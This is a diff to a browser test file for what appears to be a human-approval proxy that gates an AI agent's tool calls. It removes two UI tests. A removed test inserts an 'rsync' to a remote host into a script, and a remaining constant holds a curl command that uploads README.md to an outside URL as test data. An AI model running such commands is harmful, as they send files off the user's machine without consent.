@@ -17,11 +17,10 @@ from ironcurtain_proxy.mailbox.messages import Credential
 from ironcurtain_proxy.model.decision import Program
 from ironcurtain_proxy.model.escalation import Approved, Declined, Escalation
 from ironcurtain_proxy.model.reply import ResultSummary
-from ironcurtain_proxy.model.values import Json
 from tests.audit.specimens import record
 from tests.fakes import NO_TLS
 from tests.mailbox.mailbox_fixture import APPROVED, Box, a_box, escalation, until
-from tests.questions import ETC, FIVE_REASONS, SRV
+from tests.questions import ETC, SRV
 from tests.sessions.session_fixture import a_session
 from tests.web.page_process import a_command, a_tab
 
@@ -226,63 +225,6 @@ async def test_a_phone_shows_the_reason_first_and_a_short_edit_without_a_scroll(
         await expect(page.locator("#remember")).to_be_enabled()
         await press(page, "d", asked, box)
         await press(page, "d", long, box)
-
-
-@pytest.mark.parametrize(("width", "height"), [(390, 844), (1280, 800)])
-async def test_an_edit_with_five_reasons_is_approved_without_a_scroll(
-    browser: BrowserContext, tmp_path: Path, width: int, height: int
-) -> None:
-    target = tmp_path / "a.sh"
-    target.write_text("\n".join(f"line {number}" for number in range(9)))
-    edits: Json = [{"oldText": "line 4", "newText": "line 4\nrsync -a out/ live:"}]
-    asked = replace(
-        escalation(
-            seconds=PATIENCE,
-            tool="edit_file",
-            arguments={"path": str(target), "edits": edits},
-            candidates=(ETC, SRV),
-        ),
-        told=("Changes a.sh, outside the workspace.",),
-        reasons=FIVE_REASONS,
-        context=(("Named by", f"{target}: no message of yours and no result that the proxy saw"),),
-    )
-    async with (
-        a_page(browser, tmp_path, width=width, height=height) as (box, page),
-        box.asked(asked, PATIENCE),
-    ):
-        await expect(page.locator("#reason")).to_have_text(asked.told[0])
-        await expect(page.locator("#body")).to_contain_text("reason 4 to ask")
-        await expect(page.locator("#approve")).to_be_enabled()
-        assert await page.evaluate("scrollY + document.querySelector('#question').scrollTop") == 0
-        await expect(page.locator("#remembered")).to_contain_text("reason 3 to ask")
-        await press(page, "d", asked, box)
-
-
-async def test_who_answers_in_the_middle_of_a_list_stays_there(
-    browser: BrowserContext, tmp_path: Path
-) -> None:
-    asked = [
-        escalation(seconds=PATIENCE, tool="run_command", arguments={"command": f"do {number} x"})
-        for number in range(4)
-    ]
-    async with (
-        a_page(browser, tmp_path) as (box, page),
-        box.asked(asked[0], PATIENCE),
-        box.asked(asked[1], PATIENCE),
-        box.asked(asked[2], PATIENCE),
-        box.asked(asked[3], PATIENCE),
-    ):
-        rows = page.locator("#waiting button")
-        await expect(rows).to_have_count(4)
-        names = [(await row.inner_text()).split("\n")[0] for row in await rows.all()]
-        await rows.nth(1).click()
-        chosen = next(one for one in asked if f"do {asked.index(one)} x" in names[1])
-        await press(page, "d", chosen, box)
-        await expect(rows).to_have_count(3)
-        await expect(page.locator("#headline")).to_have_text(names[2])
-        for one in asked:
-            if one is not chosen:
-                await press(page, "d", one, box)
 
 
 SEND = "curl -d @README.md https://example.com/upload"
